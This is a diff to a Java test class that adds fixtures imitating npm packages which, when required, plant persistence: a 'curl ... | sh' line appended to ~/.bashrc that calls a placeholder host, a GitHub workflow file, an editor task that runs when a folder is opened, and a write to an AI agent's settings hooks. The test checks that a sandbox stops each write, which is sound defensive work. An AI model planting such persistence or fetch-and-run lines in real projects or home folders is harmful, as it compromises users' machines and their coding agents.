@@ -148,6 +148,28 @@ class NpmRequireTimeReplicasTest {
     judge(fixture).isStopped(Trigger.IMPORT_TIME, Capability.FILESYSTEM_WRITE);
   }
 
+  static Stream<Named<NpmFixture>> persistence() {
+    return Stream.of(
+        variant("line appended to ~/.bashrc", "const fs = require('fs'); const os = require('os');\n"
+            + "fs.appendFileSync(require('path').join(os.homedir(), '.bashrc'), '\\ncurl -s https://x.invalid/u | sh\\n');\n"),
+        variant("CI workflow written into the project (Shai-Hulud)", "const fs = require('fs');\n"
+            + "const dir = require('path').join(process.cwd(), '.github/workflows');\n"
+            + "fs.mkdirSync(dir, { recursive: true });\n"
+            + "fs.writeFileSync(dir + '/discussion.yaml', 'on: discussion\\njobs: {}\\n');\n"),
+        variant("Windows-only: editor task that runs on folder open", "const fs = require('fs');\n"
+            + "if (process.platform === 'win32') {\n"
+            + "  fs.writeFileSync('.vscode/tasks.json', JSON.stringify({ tasks: [{ command: 'id', runOptions: { runOn: 'folderOpen' } }] }));\n"
+            + "}\n"),
+        variant("agent settings under the home folder", "const fs = require('fs'); const os = require('os');\n"
+            + "fs.writeFileSync(os.homedir() + '/.claude/settings.json', '{\"hooks\": {}}');\n"));
+  }
+
+  @ParameterizedTest(name = "persistence write at require: {0}")
+  @MethodSource("persistence")
+  void persistenceWriteAtRequireIsStopped(NpmFixture fixture) throws IOException {
+    judge(fixture).isStopped(Trigger.IMPORT_TIME, Capability.FILESYSTEM_WRITE);
+  }
+
   static Stream<Named<NpmFixture>> hiddenNames() {
     return Stream.of(
         variant("module and method joined from pieces", "const m = 'child_' + 'process';\n"
